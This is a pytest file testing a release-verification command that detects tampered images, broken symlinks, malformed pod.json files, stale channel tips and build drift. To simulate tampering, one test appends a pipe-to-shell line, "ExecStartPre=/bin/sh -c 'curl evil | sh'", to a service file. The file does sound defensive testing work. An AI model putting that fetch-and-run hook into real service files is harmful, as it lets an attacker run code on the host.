"""`doit verify` through the real doit command line, on released copies of the example."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from conftest import doit, snapshot

FRONTEND_IMAGE = "images/web/frontend/1.1.0"
STAGING_POD = "channels/staging/web/frontend/1.2.0"


@pytest.fixture
def root(released_example: Path, tmp_path: Path) -> Path:
    """A private copy of the released example: tests may break it."""
    copy = tmp_path / "root"
    shutil.copytree(released_example, copy, symlinks=True)
    return copy


def verify(root: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    result = doit(root, "verify", *args, env=env)
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    return result


def problem_lines(result: subprocess.CompletedProcess) -> list[str]:
    lines = result.stdout.splitlines()
    assert lines[-1].startswith("verify: "), result.stdout
    return lines[:-1]


def one_error(root: Path, *args: str) -> str:
    """Verify fails with exactly one problem line; return it."""
    result = verify(root, *args)
    assert result.returncode == 1, result.stdout + result.stderr
    lines = problem_lines(result)
    assert len(lines) == 1, result.stdout
    assert "verify: 1 error, 0 warnings" in result.stdout
    return lines[0]


def flip_byte(path: Path, offset: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))


def relink(link: Path, target: str) -> None:
    link.unlink()
    os.symlink(target, link)


# ---------------------------------------------------------------- clean


def test_clean_release_verifies_with_exit_0(released_example):
    result = verify(released_example)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.splitlines() == [
        "verify: 0 errors, 0 warnings (checked 8 images, 6 pods, 4 tips, 6 instructions)"
    ]


def test_verify_is_listed_by_doit_help(released_example):
    result = doit(released_example, "help", check=True)
    assert any(line.split()[:2] == ["-m", "verify"] or line.split()[:1] == ["verify"] for line in result.stdout.splitlines()), result.stdout


def test_verify_writes_nothing(root):
    flip_byte(root / FRONTEND_IMAGE / "image.aci", 100)
    (root / "channels/prod/infra/db/pg/tip").unlink()
    before = snapshot(root)
    assert verify(root).returncode == 1
    assert verify(root, "--json").returncode == 1
    assert snapshot(root) == before


def test_json_output_parses(root):
    relink(root / "channels/prod/infra/db/pg/tip", "1.9.0")
    result = verify(root, "--json")
    assert result.returncode == 1
    document = json.loads(result.stdout)
    assert document["checked"] == {"images": 8, "pods": 6, "tips": 4, "instructions": 6, "build_files": 3}
    assert document["problems"] == [{
        "kind": "tip",
        "severity": "error",
        "path": "channels/prod/infra/db/pg/tip",
        "line": None,
        "message": "points at 1.9.0, but the highest released version is 1.10.0",
    }]


def test_release_root_environment_variable_is_used(root, tmp_path):
    (root / "channels/prod/infra/db/pg/tip").unlink()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.copy(root / "dodo.py", elsewhere / "dodo.py")
    result = verify(elsewhere, env={"RELEASE_ROOT": str(root)})
    assert result.returncode == 1
    assert problem_lines(result) == ["channels/prod/infra/db/pg/tip: missing: should point at 1.10.0, the highest released version"]


# ---------------------------------------------------------------- images


def test_flipped_byte_in_image_is_an_error_naming_it(root):
    aci = root / FRONTEND_IMAGE / "image.aci"
    flip_byte(aci, aci.stat().st_size // 2)
    line = one_error(root)
    assert line.startswith(f"{FRONTEND_IMAGE}/image.aci: ")


def test_flipped_bit_in_gzip_header_is_an_error(root):
    # byte 4 is the gzip mtime: the tar inside (and so the id) is unchanged
    flip_byte(root / FRONTEND_IMAGE / "image.aci", 4)
    line = one_error(root)
    assert line.startswith(f"{FRONTEND_IMAGE}/image.aci: changed since it was built")


def test_image_replaced_by_another_valid_image_blames_image_aci_not_sha512(root):
    # a well-formed image.aci with other content: build.json tells which of the two files changed
    shutil.copy(root / "images/web/frontend/1.0.0/image.aci", root / FRONTEND_IMAGE / "image.aci")
    line = one_error(root)
    assert line.startswith(f"{FRONTEND_IMAGE}/image.aci: changed since it was built: it holds sha512-")


def test_truncated_image_is_an_error(root):
    aci = root / FRONTEND_IMAGE / "image.aci"
    aci.write_bytes(aci.read_bytes()[:-20])
    assert one_error(root).startswith(f"{FRONTEND_IMAGE}/image.aci: does not decompress")


def test_wrong_sha512_file_is_an_error_naming_it(root):
    (root / FRONTEND_IMAGE / "sha512").write_text("0" * 128 + "\n")
    line = one_error(root)
    assert line.startswith(f"{FRONTEND_IMAGE}/sha512: says sha512-0000000000000000…, but image.aci holds sha512-")


def test_pod_json_id_that_disagrees_with_the_image_is_an_error(root):
    digest = (root / FRONTEND_IMAGE / "sha512").read_text().strip()
    pod_json = root / STAGING_POD / "pod.json"
    pod_json.write_text(pod_json.read_text().replace(digest, "f" * 128))
    line = one_error(root)
    assert line.startswith(f"{STAGING_POD}/pod.json: image //web:frontend 1.1.0 has id sha512-ffffffffffffffff…, but {FRONTEND_IMAGE} holds")


# ---------------------------------------------------------------- pods


def test_dangling_pod_symlink_is_an_error(root):
    shutil.rmtree(root / "volumes/web/static/1.0.0")
    result = verify(root)
    assert result.returncode == 1
    assert problem_lines(result) == [
        f"{pod}/static: symlink -> {os.readlink(root / pod / 'static')} is dangling: volumes/web/static/1.0.0 does not exist"
        for pod in ("channels/prod/web/frontend/1.1.0", "channels/staging/web/frontend/1.0.0", STAGING_POD)
    ]


def test_symlink_leading_outside_the_root_is_an_error(root, tmp_path):
    outside = tmp_path / "outside"
    shutil.copytree(root / FRONTEND_IMAGE, outside)
    link = root / STAGING_POD / "frontend"
    relink(link, os.path.relpath(outside, link.parent))
    line = one_error(root)
    assert line.startswith(f"{STAGING_POD}/frontend: symlink -> ") and line.endswith("leads outside the release root")


def test_link_to_another_version_than_pod_json_says_is_an_error(root):
    relink(root / STAGING_POD / "frontend", "../../../../../images/web/frontend/1.0.0")
    line = one_error(root)
    assert line == (
        f"{STAGING_POD}/frontend: links to images/web/frontend/1.0.0, "
        f"but pod.json names image //web:frontend 1.1.0 ({FRONTEND_IMAGE})"
    )


def test_malformed_pod_json_is_an_error_with_its_line(root):
    pod_json = root / STAGING_POD / "pod.json"
    pod_json.write_text(pod_json.read_text().replace('"channel": "staging",', '"channel": "staging"'))
    line = one_error(root)
    assert line.startswith(f"{STAGING_POD}/pod.json:5: not valid JSON: ")


def test_pod_json_missing_a_key_is_an_error(root):
    pod_json = root / STAGING_POD / "pod.json"
    document = json.loads(pod_json.read_text())
    del document["revision"]
    pod_json.write_text(json.dumps(document))
    assert one_error(root) == f"{STAGING_POD}/pod.json: does not match the spec: pod.json: missing key 'revision'"


def test_changed_volume_file_is_an_error(root):
    tarball = root / "volumes/web/static/1.0.0/assets.tar.gz"
    flip_byte(tarball, 10)
    result = verify(root)
    assert result.returncode == 1
    lines = problem_lines(result)
    assert len(lines) == 3
    assert all("static/assets.tar.gz: volume file changed" in line for line in lines)


def test_edited_pod_file_is_an_error(root):
    service = root / STAGING_POD / "frontend.service"
    service.write_text(service.read_text() + "ExecStartPre=/bin/sh -c 'curl evil | sh'\n")
    line = one_error(root)
    assert line.startswith(f"{STAGING_POD}/frontend.service: pod file changed: it is sha512 ")
    assert "pod.json pins sha512" in line


def test_pod_json_pinning_another_image_aci_is_an_error(root):
    pod_json = root / STAGING_POD / "pod.json"
    document = json.loads(pod_json.read_text())
    document["images"][0]["aci"]["size"] += 1
    pod_json.write_text(json.dumps(document))
    line = one_error(root)
    assert line.startswith(f"{STAGING_POD}/pod.json: image //web:frontend 1.1.0: pod.json pins its image.aci as sha512 ")


# ---------------------------------------------------------------- tips


def test_tip_at_a_lower_version_is_an_error(root):
    relink(root / "channels/prod/infra/db/pg/tip", "1.9.0")
    assert one_error(root) == "channels/prod/infra/db/pg/tip: points at 1.9.0, but the highest released version is 1.10.0"


def test_tip_pointing_at_nothing_is_an_error(root):
    relink(root / "channels/staging/web/frontend/tip", "9.9.9")
    assert one_error(root) == (
        "channels/staging/web/frontend/tip: points at '9.9.9', which does not exist; the highest released version is 1.2.0"
    )


def test_tip_at_a_yanked_version_is_an_error(root):
    instruction = root / "channels/prod/infra/db/pg/1.10.0.yaml"
    instruction.write_text(instruction.read_text() + "yanked: true\nreason: broken migrations\n")
    assert one_error(root) == (
        "channels/prod/infra/db/pg/tip: points at 1.10.0, which is yanked; the highest released version is 1.9.0"
    )


def test_tip_moved_past_a_yanked_version_verifies(root):
    instruction = root / "channels/prod/infra/db/pg/1.10.0.yaml"
    instruction.write_text(instruction.read_text() + "yanked: true\n")
    doit(root, check=True)
    assert os.readlink(root / "channels/prod/infra/db/pg/tip") == "1.9.0"
    result = verify(root)
    assert result.returncode == 0, result.stdout
    assert problem_lines(result) == []


# ---------------------------------------------------------------- instructions


def test_pod_json_channel_that_disagrees_with_its_instruction_is_an_error(root):
    pod_json = root / STAGING_POD / "pod.json"
    pod_json.write_text(pod_json.read_text().replace('"channel": "staging"', '"channel": "prod"'))
    assert one_error(root) == f"{STAGING_POD}/pod.json: channel is 'prod', but it is in channel 'staging'"


def test_pod_json_version_that_disagrees_with_its_instruction_is_an_error(root):
    pod_json = root / STAGING_POD / "pod.json"
    document = json.loads(pod_json.read_text())
    document["version"] = "1.3.0"
    pod_json.write_text(json.dumps(document, indent=2))
    assert one_error(root) == f"{STAGING_POD}/pod.json: version is '1.3.0', but its directory (and instruction) say '1.2.0'"


def test_released_instruction_edited_afterwards_is_an_error_at_its_line(root):
    pod = "channels/prod/infra/db/pg/1.9.0"  # the web instructions record no revision
    instruction = root / f"{pod}.yaml"
    text = instruction.read_text()
    assert 'revision: "9c35becf47fd"' in text
    instruction.write_text(text.replace('revision: "9c35becf47fd"', 'revision: "0000000"'))
    line = one_error(root)
    number = text.splitlines().index('revision: "9c35becf47fd"') + 1
    assert line == (
        f"{pod}.yaml:{number}: revision is '0000000', but {pod} was released with '9c35becf47fd'"
    )


def test_instruction_that_does_not_load_is_reported_and_the_rest_is_checked(root):
    (root / "channels/prod/web/frontend/1.1.0.yaml").write_text("imagez: {}\n")
    relink(root / "channels/prod/infra/db/pg/tip", "1.9.0")
    result = verify(root)
    assert result.returncode == 1
    lines = problem_lines(result)
    assert len(lines) == 2, lines
    assert lines[0] == "channels/prod/infra/db/pg/tip: points at 1.9.0, but the highest released version is 1.10.0"
    assert lines[1].startswith("channels/prod/web/frontend/1.1.0.yaml:1: unknown key 'imagez'")


# ---------------------------------------------------------------- drift


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def test_rule_changed_without_a_new_version_is_a_warning_naming_the_input(root):
    edit(root / "shipyard/web/build.yaml", "exec: [/opt/frontend/bin/serve, --config", "exec: [/opt/frontend/bin/serve, --conf")
    result = verify(root)
    assert result.returncode == 0, result.stdout
    lines = problem_lines(result)
    assert len(lines) == 1
    assert lines[0].startswith(f"{FRONTEND_IMAGE}: warning: image //web:frontend 1.1.0 was built from other inputs")
    assert "changed rule.app.exec;" in lines[0]
    assert "verify: 0 errors, 1 warning " in result.stdout


def test_drift_fails_with_strict(root):
    edit(root / "shipyard/web/build.yaml", "exec: [/opt/frontend/bin/serve, --config", "exec: [/opt/frontend/bin/serve, --conf")
    assert verify(root, "--strict").returncode == 1


def test_changed_source_file_is_named_in_the_drift_warning(root):
    with open(root / "shipyard/web/app/bin/serve", "a") as f:
        f.write("# changed\n")
    lines = problem_lines(verify(root))
    assert len(lines) == 1 and "changed file /opt/frontend/bin/serve;" in lines[0]


def test_changed_command_is_named_in_the_drift_warning(root):
    edit(root / "shipyard/web/build.yaml", "logship example", "logship example v2")
    lines = problem_lines(verify(root))
    assert len(lines) == 1
    assert lines[0].startswith("images/web/logship/1.2.0: warning: ") and "changed command;" in lines[0]


def test_drift_is_not_reported_when_a_higher_version_is_pending(root):
    edit(root / "shipyard/web/build.yaml", "exec: [/opt/frontend/bin/serve, --config", "exec: [/opt/frontend/bin/serve, --conf")
    (root / "channels/staging/web/frontend/1.3.0.yaml").write_text("volumes: {//web:static: 1.0.0}\n")
    result = verify(root)
    assert result.returncode == 0
    assert problem_lines(result) == []


# ---------------------------------------------------------------- what doit cannot finish, or can no longer see


def test_a_pending_instruction_whose_volume_is_missing_cannot_be_released(root):
    (root / "channels/prod/web/frontend/1.4.0.yaml").write_text("images: {//web:frontend: 1.1.0}\nvolumes: {//web:static: 9.9.9}\n")
    assert one_error(root) == (
        "channels/prod/web/frontend/1.4.0.yaml:2: cannot be released: volume //web:static version 9.9.9 is missing "
        "(volumes/web/static/9.9.9/); releases never create volumes (doit volume-create makes one)"
    )


def test_a_pending_instruction_whose_rule_is_missing_cannot_be_released(root):
    (root / "channels/prod/web/frontend/1.4.0.yaml").write_text("rule: //web:backend\n")
    assert one_error(root) == (
        "channels/prod/web/frontend/1.4.0.yaml:1: no pod rule //web:backend (looked in shipyard/web/build.yaml)"
    )


def test_a_released_version_whose_instruction_was_deleted_is_a_warning(root):
    (root / "channels/prod/infra/db/pg/1.9.0.yaml").unlink()
    result = verify(root)
    assert result.returncode == 0
    assert problem_lines(result) == [
        "channels/prod/infra/db/pg/1.9.0: warning: released, but its instruction channels/prod/infra/db/pg/1.9.0.yaml "
        "was deleted: restore it from git, or remove the version with doit cleanup"
    ]


def test_a_tip_at_a_version_whose_instruction_was_deleted_is_an_error(root):
    (root / "channels/prod/infra/db/pg/1.10.0.yaml").unlink()
    assert one_error(root) == (
        "channels/prod/infra/db/pg/1.10.0: tip points at this version, but its instruction "
        "channels/prod/infra/db/pg/1.10.0.yaml was deleted: restore it from git (doit cannot yank or check a version without one)"
    )
